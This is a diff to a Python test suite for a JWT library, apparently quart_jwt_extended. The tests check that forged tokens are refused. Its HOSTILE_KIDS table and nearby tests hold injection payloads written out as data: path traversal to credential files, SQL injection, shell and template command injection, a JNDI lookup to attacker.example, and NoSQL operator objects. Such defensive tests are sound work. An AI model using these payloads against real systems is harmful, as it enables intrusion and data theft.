@@ -32,7 +32,9 @@ from werkzeug.datastructures import Headers
 
 import quart_jwt_extended as qje
 from support import (
+    FAR_FUTURE,
     HASHES,
+    LONG_AGO,
     SECRET,
     access_claims,
     b64url,
@@ -129,13 +131,15 @@ async def refused_everywhere(
     *,
     status: int = 422,
     message: str | None = None,
-    paths: Iterable[str] = EVERY_VIEW,
 ) -> None:
-    """No view takes any of the tokens, nor does ``decode_token``; the good token is let in."""
+    """No view takes any of the tokens, nor does ``decode_token``; the good token is let in.
+
+    The first token goes to each kind of view, every other one to one kind in turn.
+    """
     await let_in(app, headers=bearer(good))
     tried = 0
     for token in attacks:
-        for path in paths:
+        for path in EVERY_VIEW if tried == 0 else EVERY_VIEW[tried % 4 :][:1]:
             answer = await kept_out(app, path, headers=bearer(token))
             assert answer[0] == status, (answer, token)
             assert message in (None, answer[1]["msg"]), (answer, token)
@@ -290,7 +294,10 @@ async def test_alg_that_is_blank_or_no_string_is_refused(app: Quart) -> None:
         *({"HS256": 1}, {"alg": "HS256"}, [["HS256"]], [None]),
     ]
     attacks = [hs_token(access_claims(), header={"alg": value}) for value in values]
-    await refused_everywhere(app, good, attacks, message=NOT_ALLOWED)
+    # PyJWT lets a TypeError out for an unhashable value, where a set holds the allow-list.
+    for allowed in (list, tuple, set, frozenset):
+        app.config["JWT_DECODE_ALGORITHMS"] = allowed(["HS256", "HS384"])
+        await refused_everywhere(app, good, attacks, message=NOT_ALLOWED)
     headers = [{}, {"typ": "JWT"}, {"ALG": "HS256"}, {"alg ": "HS256"}, {"algorithm": "HS256"}]
     attacks = [hs_token(access_claims(), header=header) for header in headers]
     await refused_everywhere(app, good, attacks, message="Algorithm not specified")
@@ -347,7 +354,7 @@ async def test_truncated_or_extended_hmac_is_refused(algorithm: str) -> None:
     changed = [signature[:size] for size in range(len(signature))]
     changed += [signature + b"\0", signature + signature, b"\0" + signature, signature[1:]]
     attacks = [f"{unsigned}.{b64url(part)}" for part in changed]
-    await refused_everywhere(app, good, attacks, message=BAD_SIGNATURE, paths=["/protected"])
+    await refused_everywhere(app, good, attacks, message=BAD_SIGNATURE)
 
 
 async def test_longer_hmac_cut_to_a_shorter_algorithm_is_refused() -> None:
@@ -394,7 +401,6 @@ async def test_public_key_as_hmac_secret_is_refused(signer: Signer, listed: bool
             signed(signer),
             [*attacks, session_secret],
             message=NOT_ALLOWED,
-            paths=["/protected"],
         )
 
 
@@ -407,7 +413,7 @@ async def test_public_key_from_a_loader_as_hmac_secret_is_refused(signer: Signer
     for key in (dresses["pem"].decode(), dresses["pem with CRLF"], dresses["ssh"], public):
         app = key_app(signer, JWT_DECODE_ALGORITHMS=[signer.algorithm, *HMAC_ALGORITHMS])
         manager_of(app).decode_key_loader(lambda claims, headers, key=key: key)
-        await refused_everywhere(app, signed(signer), attacks, paths=["/protected"])
+        await refused_everywhere(app, signed(signer), attacks)
 
 
 @one_signer_per_kind
@@ -427,9 +433,7 @@ async def test_token_signed_again_as_hmac_is_refused(signer: Signer) -> None:
     # The signature that is there already, under a header that names the other family.
     attacks += [f"{json_segment({'alg': alg})}.{payload}.{signature}" for alg in HMAC_ALGORITHMS]
     relabelled = hs_token(access_claims(), header={"alg": signer.algorithm})
-    await refused_everywhere(
-        app, good, [*attacks, relabelled], message=BAD_SIGNATURE, paths=["/protected"]
-    )
+    await refused_everywhere(app, good, [*attacks, relabelled], message=BAD_SIGNATURE)
 
 
 async def test_good_signature_by_an_algorithm_that_is_not_allowed_is_refused() -> None:
@@ -642,7 +646,8 @@ ADDRESSES = [
 ]
 
 
-async def address_is_not_visited(name: str) -> None:
+@pytest.mark.parametrize("name", ["jku", "x5u"])
+async def test_address_of_a_key_is_not_visited(name: str) -> None:
     app = key_app(RSA)
     await let_in(app, headers=bearer(signed(RSA)))
     await kept_out(app, headers=bearer(signed(RSA, owner="stranger")))
@@ -657,14 +662,6 @@ async def address_is_not_visited(name: str) -> None:
             async with app.app_context():
                 with pytest.raises(jwt.InvalidSignatureError):
                     qje.decode_token(forged)
-
-
-async def test_jku_is_not_visited() -> None:
-    await address_is_not_visited("jku")
-
-
-async def test_x5u_is_not_visited() -> None:
-    await address_is_not_visited("x5u")
 
 
 async def test_embedded_certificate_is_not_used() -> None:
@@ -682,20 +679,81 @@ async def test_embedded_certificate_is_not_used() -> None:
         await refused_everywhere(app, good, attacks, message=BAD_SIGNATURE)
 
 
-async def hostile_kid_finds_no_key(kids: list[str], secrets: Iterable[str | bytes]) -> None:
-    """The loader gets the text as it is; a key that it does not know verifies nothing."""
-    keys = {"current": SECRET}
-    asked: list[str] = []
+SQL_SECRET = "x" * 64
 
-    def find(claims: dict[str, Any], headers: dict[str, Any]) -> str | None:
+# By name: hostile texts, and the secrets that somebody who falls for one would verify with.
+HOSTILE_KIDS: dict[str, tuple[list[str], list[str | bytes]]] = {
+    "path": (
+        [
+            *(
+                "/dev/null",
+                "../../../../../../dev/null",
+                "..\\..\\..\\NUL",
+                "/proc/sys/kernel/hostname",
+            ),
+            *("file:///dev/null", "....//....//dev/null", "%2e%2e%2fdev%2fnull", "/dev/null\0.pem"),
+            *("~/.ssh/id_rsa", "/etc/passwd", "keys/../current", "./current", "current/"),
+            "/current",
+        ],
+        [b"", b"\0", b"\n"],
+    ),
+    "SQL": (
+        [
+            *("' OR '1'='1", "' OR 1=1 --", "current' --", "current'/*", "' UNION SELECT NULL --"),
+            f"none' UNION SELECT '{SQL_SECRET}' --",
+            f'none" UNION SELECT "{SQL_SECRET}" --',
+            *("'; DROP TABLE keys; --", "current' AND SLEEP(9) --", "\\' OR 1=1 --"),
+            *("%", "_", "*"),
+        ],
+        [SQL_SECRET, "1", b""],
+    ),
+    "shell command or template": (
+        [
+            *("; touch trace", "| touch trace", "$(touch trace)", "`touch trace`"),
+            *("&& touch trace &", "\n touch trace\n", "{{ open('trace', 'w') }}"),
+            *("__import__('os').system('touch trace')", "${jndi:ldap://attacker.example/a}"),
+            *("{0.__class__}", "%s%n%x", "*)(uid=*))(|(uid=*"),
+        ],
+        [b""],
+    ),
+    "odd characters": (
+        [
+            *("\0", "current\0", "\0current", "cur\0rent", "current\n", " current", "current "),
+            *("Current", "CURRENT", "\uff43urrent", "curre\u0301nt", "current\u200b"),
+            *("\ufeffcurrent", "\ud800", "\udfff\ud800", "current\ud800", "\x1b[2J", "\u202e"),
+            "\r\nSet-Cookie: a=b",
+        ],
+        [b""],
+    ),
+    "great length": (["k" * 9_000, "../" * 3_000, "\u00e9" * 1_500, ""], [b""]),
+}
+
+
+def app_that_asks(keys: dict[Any, Any]) -> tuple[Quart, list[Any]]:
+    """An application that looks its keys up by ``kid``, and what was looked up."""
+    app = make_app()
+    asked: list[Any] = []
+
+    @manager_of(app).decode_key_loader
+    def find(claims: dict[str, Any], headers: dict[str, Any]) -> Any:
         asked.append(headers["kid"])
         return keys.get(headers["kid"])
 
-    app = make_app()
-    manager_of(app).decode_key_loader(find)
+    return app, asked
+
+
+@pytest.mark.parametrize("kind", HOSTILE_KIDS)
+async def test_hostile_kid_finds_no_key(
+    kind: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The loader gets the text as it is; a key that it does not know verifies nothing."""
+    kids, secrets = HOSTILE_KIDS[kind]
+    app, asked = app_that_asks({"current": SECRET})
+    without_loader = make_app()
     good = hs_token(access_claims(), header={**HEADER, "kid": "current"})
     stranger = hs_token(access_claims(), header={**HEADER, "kid": "stranger"})
     await refused_everywhere(app, good, [stranger])
+    monkeypatch.chdir(tmp_path)
     for kid in kids:
         for secret in (*secrets, SECRET, ATTACKERS_SECRET, kid.encode("utf-8", "surrogatepass")):
             token = hs_token(access_claims(), header={**HEADER, "kid": kid}, secret=secret)
@@ -707,22 +765,15 @@ async def hostile_kid_finds_no_key(kids: list[str], secrets: Iterable[str | byte
             async with app.app_context():
                 with pytest.raises(jwt.InvalidTokenError):
                     qje.decode_token(token)
+        # Where no loader asks for it, it means nothing.
+        token = hs_token(access_claims(), header={**HEADER, "kid": kid})
+        await let_in(without_loader, headers=bearer(token))
     await let_in(app, headers=bearer(good))
+    assert list(tmp_path.iterdir()) == []
 
 
-async def test_kid_with_a_path_finds_no_key(tmp_path: Path) -> None:
-    paths = [
-        *(
-            "/dev/null",
-            "../../../../../../dev/null",
-            "..\\..\\..\\NUL",
-            "/proc/sys/kernel/hostname",
-        ),
-        *("file:///dev/null", "....//....//dev/null", "%2e%2e%2fdev%2fnull", "/dev/null\0.pem"),
-        *("~/.ssh/id_rsa", "/etc/passwd", "keys/../current", "./current", "current/", "/current"),
-    ]
-    await hostile_kid_finds_no_key(paths, [b"", b"\0", b"\n"])
-    # The classic needs an application that walks into the trap: the empty file is the key.
+async def test_empty_file_that_a_kid_names_is_no_key(tmp_path: Path) -> None:
+    """The classic needs an application that walks into the trap: the empty file is the key."""
     (tmp_path / "current").write_text(SECRET)
     app = make_app()
     manager_of(app).decode_key_loader(
@@ -736,64 +787,18 @@ async def test_kid_with_a_path_finds_no_key(tmp_path: Path) -> None:
     await refused_everywhere(app, good, attacks, message="HMAC key must not be empty.")
 
 
-async def test_kid_with_sql_finds_no_key() -> None:
-    secret = "x" * 64
-    statements = [
-        *("' OR '1'='1", "' OR 1=1 --", "current' --", "current'/*", "' UNION SELECT NULL --"),
-        *(f"none' UNION SELECT '{secret}' --", f'none" UNION SELECT "{secret}" --'),
-        *("'; DROP TABLE keys; --", "current' AND SLEEP(9) --", "\\' OR 1=1 --", "%", "_", "*"),
-    ]
-    await hostile_kid_finds_no_key(statements, [secret, "1", b""])
-
-
-async def test_kid_with_a_shell_command_finds_no_key(tmp_path: Path) -> None:
-    trace = tmp_path / "trace"
-    commands = [
-        *(f"; touch {trace}", f"| touch {trace}", f"$(touch {trace})", f"`touch {trace}`"),
-        *(f"&& touch {trace} &", f"\n touch {trace}\n", f"{{{{ open('{trace}', 'w') }}}}"),
-        *(f"__import__('os').system('touch {trace}')", "${jndi:ldap://attacker.example/a}"),
-        *("{0.__class__}", "%s%n%x", "*)(uid=*))(|(uid=*"),
-    ]
-    await hostile_kid_finds_no_key(commands, [b""])
-    assert not trace.exists()
-
-
-async def test_kid_with_odd_characters_finds_no_key() -> None:
-    texts = [
-        *("\0", "current\0", "\0current", "cur\0rent", "current\n", " current", "current "),
-        *("Current", "CURRENT", "\uff43urrent", "curre\u0301nt", "current\u200b", "\ufeffcurrent"),
-        *("\ud800", "\udfff\ud800", "current\ud800", "\r\nSet-Cookie: a=b", "\x1b[2J", "\u202e"),
-    ]
-    await hostile_kid_finds_no_key(texts, [b""])
-
-
-async def test_very_long_kid_finds_no_key() -> None:
-    await hostile_kid_finds_no_key(["k" * 9_000, "../" * 3_000, "\u00e9" * 1_500, ""], [b""])
-    # Longer than any token may be, it does not even reach the loader.
-    app = make_app()
-    asked: list[str] = []
-
-    def find(claims: dict[str, Any], headers: dict[str, Any]) -> str:
-        asked.append(headers["kid"])
-        return SECRET
-
-    manager_of(app).decode_key_loader(find)
+async def test_kid_longer_than_any_token_does_not_reach_the_loader() -> None:
+    huge = "k" * 1_000_000
+    app, asked = app_that_asks({"current": SECRET, huge: SECRET})
     good = hs_token(access_claims(), header={**HEADER, "kid": "current"})
-    huge = hs_token(access_claims(), header={**HEADER, "kid": "k" * 1_000_000})
-    await refused_everywhere(app, good, [huge])
+    token = hs_token(access_claims(), header={**HEADER, "kid": huge})
+    await refused_everywhere(app, good, [token])
     assert set(asked) == {"current"}
 
 
 async def test_kid_that_is_no_string_is_refused_before_the_loader_is_asked() -> None:
     """A document store would take an object for a query: ``{"$ne": null}`` finds any key."""
-    app = make_app()
-    asked: list[Any] = []
-
-    def find(claims: dict[str, Any], headers: dict[str, Any]) -> str:
-        asked.append(headers["kid"])
-        return SECRET
-
-    manager_of(app).decode_key_loader(find)
+    app, asked = app_that_asks({"current": SECRET})
     values = [{"$ne": None}, {"$gt": ""}, {"$regex": ".*"}, ["current"], [], {}, None, True, 0, 1.5]
     attacks = [hs_token(access_claims(), header={**HEADER, "kid": value}) for value in values]
     good = hs_token(access_claims(), header={**HEADER, "kid": "current"})
@@ -897,7 +902,7 @@ async def test_blank_key_from_a_loader_verifies_nothing() -> None:
         for secret in (b"", b"\0", b"None", b"False", b"0", b"[]", b"{}")
     ]
     good = hs_token(access_claims(), header={**HEADER, "kid": "current"})
-    await refused_everywhere(app, good, attacks, paths=["/protected", "/refresh"])
+    await refused_everywhere(app, good, attacks)
     for signer in (RSA, P256, ED25519):
         app = key_app(signer)
         keys["current"] = public_pem(private_key(signer.kind))
@@ -1103,11 +1108,10 @@ async def test_token_of_a_retired_key_is_refused() -> None:
 
 async def test_token_of_another_kind_with_the_same_secret_is_refused(app: Quart) -> None:
     """Cross-JWT confusion: what is no token of ours names no identity, or is for somebody else."""
-    now = int(time.time())
-    times = {"iat": now, "exp": now + 900}
+    times = {"iat": LONG_AGO, "exp": FAR_FUTURE}
     others: list[dict[str, Any]] = [
         # Flask-JWT-Extended, an OpenID token, an access token of RFC 9068, a password reset.
-        {**times, "sub": "alice", "type": "access", "fresh": True, "jti": "1", "nbf": now},
+        {**times, "sub": "alice", "type": "access", "fresh": True, "jti": "1", "nbf": LONG_AGO},
         {**times, "sub": "alice", "iss": "https://id.example", "aud": "client", "nonce": "n"},
         {**times, "sub": "alice", "client_id": "c", "scope": "all", "aud": "https://api.example"},
         {**times, "reset_password": "alice"},
@@ -1118,10 +1122,9 @@ async def test_token_of_another_kind_with_the_same_secret_is_refused(app: Quart)
 
 
 async def test_stale_token_on_a_view_that_wants_a_fresh_one_is_refused(app: Quart) -> None:
-    now = time.time()
     await let_in(app, "/fresh", headers=bearer(hs_token(access_claims(fresh=True))))
-    await let_in(app, "/fresh", headers=bearer(hs_token(access_claims(fresh=now + 60))))
-    for stale in (False, ..., 0, 1, 0.0, -1, int(now) - 1, now - 5, -(10**400)):
+    await let_in(app, "/fresh", headers=bearer(hs_token(access_claims(fresh=FAR_FUTURE))))
+    for stale in (False, ..., 0, 1, 0.0, -1, LONG_AGO, LONG_AGO + 0.5, -(10**400)):
         token = hs_token(access_claims(fresh=stale))
         answer = await kept_out(app, "/fresh", headers=bearer(token))
         assert answer == (401, {"msg": "Fresh token required"})
@@ -1193,6 +1196,10 @@ async def test_csrf_value_of_another_session_is_refused() -> None:
         async with app.app_context():
             with pytest.raises(qje.exceptions.CSRFError):
                 qje.decode_token(alice, csrf_value=value)
+    # No callback for expired tokens gets to see the claims of a forged request.
+    expired = hs_token(access_claims(exp=1, csrf="x"))
+    headers = {**cookies((ACCESS_COOKIE, expired)), "X-CSRF-TOKEN": csrf_claim_of(mallory)}
+    assert await kept_out(app, method="POST", headers=headers) == WRONG_CSRF
     async with app.app_context():
         assert qje.decode_token(alice, csrf_value=csrf_claim_of(alice))["identity"] == "alice"
     await let_in(app, method="POST", headers={**victim, **right})
@@ -1473,7 +1480,17 @@ async def test_repeated_parameter_does_not_help_a_bad_token() -> None:
 async def test_token_that_is_no_string_in_a_json_body_is_refused() -> None:
     app = make_app(JWT_TOKEN_LOCATION=["json"])
     good = hs_token(access_claims())
-    for value in ([good], {"$gt": ""}, {"token": good}, True, 1, 1.5, good.split("."), [[good]]):
+    for value in (
+        [good],
+        {"$gt": ""},
+        {"token": good},
+        True,
+        1,
+        1.5,
+        good.split("."),
+        [[good]],
+        "",
+    ):
         for path in ("/protected", "/optional"):
             answer = await kept_out(app, path, method="POST", json={"access_token": value})
             assert answer[0] == 422
@@ -1848,7 +1865,7 @@ async def test_json_bomb_is_refused() -> None:
         payload = b'{"identity":"alice","x":' + bomb + b"}"
         attacks += [hs_token(access_claims(), header=head), hs_token(payload)]
         attacks.append(hs_token(access_claims(), header=head, secret=ATTACKERS_SECRET))
-    await refused_everywhere(app, good, attacks, paths=["/protected", "/optional"])
+    await refused_everywhere(app, good, attacks)
 
 
 IDENTITIES: list[Any] = [
@@ -1899,7 +1916,7 @@ async def test_trick_with_the_expiry_is_refused(app: Quart) -> None:
     message = "Expiration Time claim (exp) must be an integer."
     attacks = [with_claim("exp", text) for text in no_numbers]
     await refused_everywhere(app, good, attacks, message=message)
-    past = ["-1", "0", "-0", "0.5", "1", "1e3", "-1e308", f"-1{'0' * 400}", str(int(time.time()))]
+    past = ["-1", "0", "-0", "0.5", "1", "1e3", "-1e308", f"-1{'0' * 400}", str(LONG_AGO)]
     attacks = [with_claim("exp", text) for text in past]
     await refused_everywhere(app, good, attacks, status=401, message="Token has expired")
     not_json = ["9999999999 ,", "0x7fffffff", "+9999999999", "9999999999L", "1_000_000_000_000"]
